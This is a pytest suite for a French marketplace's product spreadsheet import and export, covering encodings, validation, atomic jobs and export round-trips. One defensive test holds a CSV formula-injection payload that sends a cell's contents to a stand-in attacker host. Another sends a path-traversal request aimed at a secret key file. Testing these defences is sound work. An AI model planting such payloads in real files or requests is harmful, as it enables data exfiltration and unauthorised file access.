"""Spreadsheet import and export, against a folder of real-world messy files (tests/data/imports)."""
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from marketplace import product_import
from marketplace.extensions import db
from marketplace.models import Product, Shop
from tests.conftest import login

FILES = Path(__file__).resolve().parents[1] / "data" / "imports"


def read(name):
    return product_import.read_table((FILES / name).read_bytes(), name)


def plan_for(name, shop_id, mapping=None):
    table = read(name)
    shop = db.session.get(Shop, shop_id)
    return product_import.check_import(table, mapping or product_import.propose_mapping(table.headers), shop)


def by_sku(shop_id):
    return {p.sku: p for p in Product.query.filter_by(shop_id=shop_id)}


def upload(client, shop_id: int, text: str, name: str) -> str:
    """Send a catalogue file through the upload page; returns the URL of its review page."""
    return client.post(f"/boutique/{shop_id}/import", data={"file": (io.BytesIO(text.encode()), name)},
                       content_type="multipart/form-data").headers["Location"]


def test_french_excel_csv_in_cp1252_with_total_lines(app_ctx, shop_world):
    table = read("excel_fr_cp1252.csv")
    assert table.headers[:4] == ["Réf", "Désignation", "Famille", "Prix TTC"]
    mapping = product_import.propose_mapping(table.headers)
    assert mapping == {"sku": 0, "name": 1, "category": 2, "price": 3, "unit": None, "stock": 4, "ean": 5,
                       "description": None, "active": None, "image": None}
    plan = plan_for("excel_fr_cp1252.csv", shop_world["bakery"])
    assert plan.errors == [] and plan.skipped == 3
    assert (plan.creations, plan.updates) == (3, 1)  # B001 exists: it is updated, not duplicated
    product_import.apply_import(plan, db.session.get(Shop, shop_world["bakery"]))
    products = by_sku(shop_world["bakery"])
    assert len(products) == 4
    assert products["B003"].price_cents == 125000 and products["B003"].stock is None
    assert products["B003"].name == "Pièce montée (30 parts)"
    assert products["B001"].price_cents == 240 and products["B001"].stock == 12
    assert products["B004"].category.slug == "produits-festifs" and products["B004"].ean == "3017620422003"


def test_utf8_with_bom_comma_separated_decimal_point(app_ctx, shop_world):
    table = read("utf8_bom_comma.csv")
    assert table.headers[0] == "Référence"  # the BOM is not part of the first header
    plan = plan_for("utf8_bom_comma.csv", shop_world["bakery"])
    assert plan.errors == [] and plan.creations == 3
    product_import.apply_import(plan, db.session.get(Shop, shop_world["bakery"]))
    products = by_sku(shop_world["bakery"])
    assert products["E-01"].name == "Confiture d'abricot, 370 g" and products["E-01"].price_cents == 490
    assert products["E-01"].description == "Abricots du Morvan, sucre de canne"
    assert products["E-02"].stock is None and products["E-03"].price_cents == 320
    assert products["E-01"].category_id == db.session.get(Shop, shop_world["bakery"]).category_id


def test_header_on_line_three_tab_separated(app_ctx, shop_world):
    table = read("header_line3_tab.csv")
    assert table.header_line == 3
    plan = plan_for("header_line3_tab.csv", shop_world["bakery"])
    assert [(line.line, line.values["name"], line.values["price_cents"]) for line in plan.lines] == [
        (4, "Vis inox 4x40 (boîte de 100)", 690), (5, "Marteau de charpentier", 2400)]


def test_xlsx_with_merged_header_cells_and_a_total_line(app_ctx, shop_world):
    table = read("merged_header.xlsx")
    assert table.header_line == 3
    plan = plan_for("merged_header.xlsx", shop_world["cheese"])
    assert plan.errors == [] and plan.skipped == 2
    product_import.apply_import(plan, db.session.get(Shop, shop_world["cheese"]))
    products = by_sku(shop_world["cheese"])
    assert products["1001"].name == "Époisses AOP" and products["1001"].price_cents == 950
    assert products["1002"].price_cents == 3290 and products["1002"].unit == "le kg" and products["1002"].stock is None
    assert products["1003"].price_cents == 400


def test_every_problem_is_reported_with_its_line_and_nothing_is_written(app_ctx, shop_world):
    plan = plan_for("errors.csv", shop_world["bakery"])
    report = {(e.line, e.field): e.message for e in plan.errors}
    assert report == {
        (3, "Prix TTC"): "Le prix « -3,00 » est négatif.",
        (4, "Prix TTC"): "Le prix « gratuit » n'est pas un nombre (exemple : 12,50).",
        (5, "Référence"): "La référence « R1 » est déjà à la ligne 2 : une seule ligne par référence.",
        (6, "Désignation"): "Le nom du produit est vide.",
        (7, "Stock"): "Le stock « -2 » est négatif.",
    }
    # A wrong barcode costs only the barcode: the product comes in without it, with a warning.
    assert [(w.line, w.field, w.message) for w in plan.warnings] == [
        (8, "Code-barres EAN", "Le code-barres EAN « 1234567890123 » n'est pas valide. Produit importé sans "
                               "code-barres.")]
    assert [(line.values["sku"], line.values.get("ean")) for line in plan.lines] == [
        ("R1", None), ("R6", None), ("R7", None)]
    assert Product.query.filter_by(shop_id=shop_world["bakery"]).count() == 1


def test_an_english_shopkeeper_reads_the_problems_in_english_and_exports_the_french_file(app, shop_world):
    with app.test_request_context("/?lang=en"):
        plan = plan_for("errors.csv", shop_world["bakery"])
        report = {(e.line, str(e.field)): e.message for e in plan.errors}
        assert report[(4, "Price incl. VAT")] == "The price “gratuit” is not a number (example: 12.50)."
        assert report[(6, "Name")] == "The product name is empty."
        assert product_import.export_csv(db.session.get(Shop, shop_world["bakery"])).startswith(
            "\ufeffRéférence;Désignation;Catégorie;Prix TTC;".encode())


def test_import_is_atomic(app_ctx, shop_world, monkeypatch):
    plan = plan_for("excel_fr_cp1252.csv", shop_world["bakery"])
    plan.lines[2].values["name"] = None  # the database refuses the third line
    with pytest.raises(Exception):
        product_import.apply_import(plan, db.session.get(Shop, shop_world["bakery"]))
    db.session.rollback()
    assert set(by_sku(shop_world["bakery"])) == {"B001"}
    assert db.session.get(Product, shop_world["bread"]).stock == 12


@pytest.mark.parametrize("data, message", [(b"", "vide"), (b"\x00\x01\x02binary", "n'est pas un fichier texte"),
                                          (b"PK\x03\x04garbage", "illisible")])
def test_unreadable_files(data, message):
    with pytest.raises(product_import.ImportFileError, match=message):
        product_import.read_table(data, "catalogue.csv")


def test_thousands_and_mapping_of_usual_headers():
    mapping = product_import.propose_mapping(["Code article", "Libellé article", "PU HT", "PU TTC", "Qté", "Gencod"])
    assert mapping["sku"] == 0 and mapping["name"] == 1 and mapping["price"] == 3 and mapping["stock"] == 4
    assert mapping["ean"] == 5
    assert product_import.propose_mapping(["Article", "Prix", "Quantité", "Catégorie", "Description"])["name"] == 0


def test_export_then_reimport_changes_nothing(app_ctx, shop_world):
    shop = db.session.get(Shop, shop_world["bakery"])
    product_import.apply_import(plan_for("excel_fr_cp1252.csv", shop.id), shop)
    product_import.apply_import(plan_for("utf8_bom_comma.csv", shop.id), shop)
    db.session.add(Product(shop_id=shop.id, category_id=shop.category_id, name="Sans référence", price_cents=100,
                           active=False, description="Ligne 1\nLigne 2"))
    db.session.commit()
    before = {p.id: (p.name, p.price_cents, p.stock, p.category_id, p.ean, p.unit, p.active, p.description)
              for p in Product.query.filter_by(shop_id=shop.id)}
    csv_bytes = product_import.export_csv(shop)
    assert csv_bytes.startswith(b"\xef\xbb\xbf") and b";2,40;" in csv_bytes
    for name, data in (("export.csv", csv_bytes), ("export.xlsx", product_import.export_xlsx(shop))):
        table = product_import.read_table(data, name)
        plan = product_import.check_import(table, product_import.propose_mapping(table.headers), shop)
        assert plan.errors == [] and plan.warnings == []
        assert (plan.creations, plan.updates, plan.unchanged) == (0, 0, len(before)), name
    workbook = load_workbook(io.BytesIO(product_import.export_xlsx(shop)))
    assert workbook.active["A1"].value == "Référence"


def test_upload_review_and_import_through_the_pages(app, client, shop_world):
    login(client, shop_world["emails"]["staff"])
    base = f"/boutique/{shop_world['bakery']}"
    response = client.post(f"{base}/import", data={"file": (io.BytesIO((FILES / "errors.csv").read_bytes()), "errors.csv")},
                           content_type="multipart/form-data")
    review_url = response.headers["Location"]
    page = client.get(review_url).get_data(as_text=True)
    assert "Le prix « -3,00 » est négatif." in page and "Importer les 3 lignes valides" in page
    # The user changes the mapping: no EAN column; line 8 stays valid, without its warning.
    mapping = {f"map_{name}": str(index) for name, index in
               {"sku": 0, "name": 1, "price": 2, "stock": 3}.items()}
    page = client.get(review_url, query_string=mapping).get_data(as_text=True)
    assert "Importer les 3 lignes valides" in page
    response = client.post(review_url, data=mapping)
    progress_url = response.headers["Location"]
    assert progress_url == f"{review_url}/suivi"
    page = client.get(progress_url).get_data(as_text=True)  # the job ran at once (tests run jobs inline)
    assert "Import terminé : 3 produits ajoutés, 0 mis à jour, 0 inchangé" in page
    assert "5 lignes en erreur n'ont pas été importées." in page
    with app.app_context():
        assert set(by_sku(shop_world["bakery"])) == {"B001", "R1", "R6", "R7"}
    # Confirmed: the review page now leads to the import's outcome, it cannot be confirmed twice.
    assert client.get(review_url).headers["Location"] == progress_url
    client.post(review_url, data=mapping)
    with app.app_context():
        assert Product.query.filter_by(shop_id=shop_world["bakery"]).count() == 4


def test_while_the_job_has_not_run_the_page_says_so_and_follows_it(app, client, shop_world):
    from marketplace.models import PendingUpload

    login(client, shop_world["emails"]["owner"])
    review_url = upload(client, shop_world["bakery"],
                        "Réf;Désignation;Prix TTC\nZ1;Sablés au beurre;3,20\n", "sables.csv")
    with app.app_context():  # confirmed, the job not run yet (a busy worker)
        pending = PendingUpload.query.one()
        pending.status, pending.mapping = "queued", {"sku": 0, "name": 1, "price": 2}
        db.session.commit()
        upload_id = pending.id
    page = client.get(f"{review_url}/suivi").get_data(as_text=True)
    assert "Import de « sables.csv » en cours" in page and 'data-job-status="queued"' in page  # followed
    assert client.get(review_url).headers["Location"].endswith("/suivi")
    with app.app_context():
        product_import.run_import(upload_id)
        product_import.run_import(upload_id)  # run twice (a retry): written once
        assert [p.name for p in Product.query.filter_by(sku="Z1")] == ["Sablés au beurre"]
    page = client.get(f"{review_url}/suivi").get_data(as_text=True)
    assert "Import terminé : 1 produit ajouté" in page and 'data-job-status="done"' in page


def test_an_import_that_fails_in_the_job_writes_nothing_and_says_why(app, client, shop_world, monkeypatch):
    from marketplace.models import PendingUpload

    login(client, shop_world["emails"]["owner"])
    review_url = upload(client, shop_world["bakery"],
                        "Réf;Désignation;Prix TTC\nZ1;Sablés au beurre;3,20\nZ2;Croquants;4,10\n", "sables.csv")
    written, write = [], product_import._write

    def write_then_fail(plan, shop):
        written.append(write(plan, shop))
        raise RuntimeError("disk full")

    monkeypatch.setattr(product_import, "_write", write_then_fail)
    page = client.post(review_url, follow_redirects=True).get_data(as_text=True)
    assert "Erreur inattendue pendant l&#39;import : rien n&#39;a été importé." in page
    assert written  # the lines were in the session when it failed
    with app.app_context():
        assert Product.query.filter(Product.sku.in_(["Z1", "Z2"])).count() == 0
        assert PendingUpload.query.one().status == "failed"


def test_a_missing_name_or_price_column_is_asked_for(app, client, shop_world):
    login(client, shop_world["emails"]["owner"])
    review_url = upload(client, shop_world["bakery"], "Produit;Montant\nPain;2,40\n", "a.csv")
    response = client.get(review_url)  # no price column recognised: the column-mapping screen
    assert response.status_code == 302 and response.headers["Location"] == f"{review_url}/colonnes"
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Cette colonne contient :" in page and "Importer les" not in page
    assert "colonne B · Montant : Prix" in page  # proposed from its values, for the shop to confirm
    # Values that say no price: asked for, nothing proposed.
    review_url = upload(client, shop_world["bakery"], "Produit;Montant\nPain;deux euros\n", "b.csv")
    page = client.get(f"{review_url}/colonnes").get_data(as_text=True)
    assert "Indiquez la colonne « Prix TTC »." in page and 'data-testid="columns-guessed"' not in page


def test_export_downloads(app, client, shop_world):
    login(client, shop_world["emails"]["staff"])
    response = client.get(f"/boutique/{shop_world['bakery']}/export.csv")
    assert response.mimetype == "text/csv" and "catalogue-boulangerie-moreau.csv" in response.headers["Content-Disposition"]
    assert "Pain de campagne" in response.get_data().decode("utf-8-sig")
    response = client.get(f"/boutique/{shop_world['bakery']}/export.xlsx")
    assert response.data[:2] == b"PK"


def test_forged_upload_tokens_are_refused(app, client, shop_world):
    login(client, shop_world["emails"]["owner"])
    response = client.get(f"/boutique/{shop_world['bakery']}/import/..%2F..%2Fsecret_key")
    assert response.status_code in (302, 404)


def test_the_upload_is_confirmed_on_another_web_server(app, client, shop_world, tmp_path):
    """Behind a load balancer the review and the confirmation may reach another host than the
    upload: the file is in the shared database, not on the first host's disk."""
    from marketplace import create_app
    from marketplace.models import PendingUpload

    login(client, shop_world["emails"]["owner"])
    review_url = upload(client, shop_world["bakery"],
                        "Réf;Désignation;Prix TTC\nZ1;Sablés au beurre;3,20\n", "sables.csv")
    other_host = create_app("testing", SQLALCHEMY_DATABASE_URI=app.config["SQLALCHEMY_DATABASE_URI"],
                            SEARCH_INDEX_DIR=str(tmp_path / "index"),
                            RATELIMIT_STORAGE_URI=app.config["RATELIMIT_STORAGE_URI"])
    other_host.instance_path = str(tmp_path / "instance")  # nothing shared on disk
    try:
        other = other_host.test_client()
        login(other, shop_world["emails"]["owner"])
        assert "Importer 1 ligne valide" in other.get(review_url).get_data(as_text=True)
        assert other.post(review_url).status_code == 302
    finally:
        with other_host.app_context():
            db.session.remove()
            db.engine.dispose()
    with app.app_context():
        assert by_sku(shop_world["bakery"])["Z1"].price_cents == 320
        assert [(u.status, u.content) for u in PendingUpload.query] == [("done", b"")]  # the file is let go


def test_an_upload_left_unconfirmed_expires_after_a_day(app, client, shop_world):
    from datetime import timedelta

    from marketplace.models import PendingUpload
    from marketplace.models.base import utcnow

    login(client, shop_world["emails"]["owner"])
    base = f"/boutique/{shop_world['bakery']}"

    forgotten = upload(client, shop_world["bakery"], "Produit;Prix\nPain;2,40\n", "hier.csv")
    with app.app_context():
        PendingUpload.query.update({"created_at": utcnow() - timedelta(days=1, minutes=1)})
        db.session.commit()
    response = client.get(forgotten, follow_redirects=True)
    assert response.request.path == f"{base}/import"
    assert "plus disponible : envoyez-le à nouveau." in response.get_data(as_text=True)
    with app.app_context():
        assert [u.filename for u in PendingUpload.query] == ["hier.csv"]
    upload(client, shop_world["bakery"], "Produit;Prix\nPain;2,40\n", "aujourdhui.csv")  # clears the forgotten ones
    with app.app_context():
        assert [u.filename for u in PendingUpload.query] == ["aujourdhui.csv"]


def test_exports_neutralise_formula_like_names_and_import_them_back_unchanged(app, client, shop_world):
    """A product named like a formula is text in both exports (quoted in CSV, a string cell in
    XLSX), and importing either export back changes nothing."""
    import csv

    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
    with app.app_context():
        product = db.session.get(Product, shop_world["bread"])
        product.name, product.description = hostile, "@SUM(1)"
        db.session.commit()
    login(client, shop_world["emails"]["staff"])
    exported = client.get(f"/boutique/{shop_world['bakery']}/export.csv").data
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[1][1] == "'" + hostile and rows[1][7] == "'@SUM(1)" and rows[1][3] == "2,40"
    workbook = client.get(f"/boutique/{shop_world['bakery']}/export.xlsx").data
    sheet = load_workbook(io.BytesIO(workbook)).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == (hostile, "s")
    assert (sheet["H2"].value, sheet["H2"].data_type) == ("@SUM(1)", "s")
    assert (sheet["D2"].value, sheet["D2"].data_type) == (2.4, "n")
    with app.app_context():
        shop = db.session.get(Shop, shop_world["bakery"])
        for name, data in (("export.csv", exported), ("export.xlsx", workbook)):
            table = product_import.read_table(data, name)
            plan = product_import.check_import(table, product_import.propose_mapping(table.headers), shop)
            assert (plan.creations, plan.updates, plan.unchanged) == (0, 0, 1), name


def test_a_big_import_job_gives_the_planner_fresh_statistics(app, client, shop_world, monkeypatch):
    """A bulk load leaves PostgreSQL planning on stale statistics until autovacuum passes: the
    job analyzes the catalogue tables after an import that creates many products."""
    import time

    from sqlalchemy import text

    from marketplace.models import PendingUpload

    with app.app_context():
        if db.engine.dialect.name != "postgresql":
            pytest.skip("PostgreSQL statistics (TEST_DATABASE_URL)")

    def analyzes() -> int:
        count = db.session.execute(text(
            "SELECT analyze_count FROM pg_stat_user_tables WHERE relname = 'products'")).scalar() or 0
        db.session.rollback()
        return count

    monkeypatch.setattr(product_import, "ANALYZE_AFTER_CREATED", 2)  # "big": two lines here
    login(client, shop_world["emails"]["owner"])
    upload(client, shop_world["bakery"], "Réf;Désignation;Prix TTC\nZ1;Sablés;3,20\nZ2;Croquants;4,10\n", "s.csv")
    with app.app_context():
        pending = PendingUpload.query.one()
        pending.status, pending.mapping = "queued", {"sku": 0, "name": 1, "price": 2}
        db.session.commit()
        before = analyzes()
        product_import.run_import(pending.id)
        deadline = time.monotonic() + 10  # the statistics reach pg_stat a moment later
        while analyzes() == before and time.monotonic() < deadline:
            time.sleep(0.2)
        assert analyzes() == before + 1


def test_the_result_lists_the_lines_not_imported_and_the_preview_keeps_warnings_apart(app, client, shop_world):
    """The review page lists the refused lines under « Lignes à corriger » and the imported lines with
    a warning apart; the result page lists the lines that were not imported (line, field, why)."""
    login(client, shop_world["emails"]["staff"])
    base = f"/boutique/{shop_world['bakery']}"
    data = "Réf;Désignation;Prix;Catégorie\nC1;Éclair;2,40;Épicerie fine\nC2;Tarte;gratuit;\nC3;Flan;-1,00;\n"
    response = client.post(f"{base}/import", data={"file": (io.BytesIO(data.encode()), "c.csv")},
                           content_type="multipart/form-data")
    review_url = response.headers["Location"]
    page = client.get(review_url).get_data(as_text=True)
    corrections = page[page.index('data-testid="import-errors"'):page.index('id="warnings-title"')]
    assert "Épicerie fine" not in corrections and "gratuit" in corrections
    warnings = page[page.index('data-testid="import-warnings"'):]
    assert ("Catégorie « Épicerie fine » inconnue du territoire : le produit est rangé dans celle du commerce"
            in warnings.replace("&#34;", '"'))
    assert "Avertissement :" not in page
    progress = client.post(review_url, data={"map_sku": "0", "map_name": "1", "map_price": "2",
                                             "map_category": "3"}).headers["Location"]
    page = client.get(progress).get_data(as_text=True)
    assert "2 lignes en erreur n'ont pas été importées." in page
    refused = page[page.index('data-testid="import-errors"'):page.index("</table>")]
    assert re.search(r"<td>3</td><td>Prix TTC</td><td>[^<]*gratuit", refused)
    assert re.search(r"<td>4</td><td>Prix TTC</td><td>[^<]*négatif", refused)
    assert 'data-testid="import-warnings"' in page and "Épicerie fine" in page
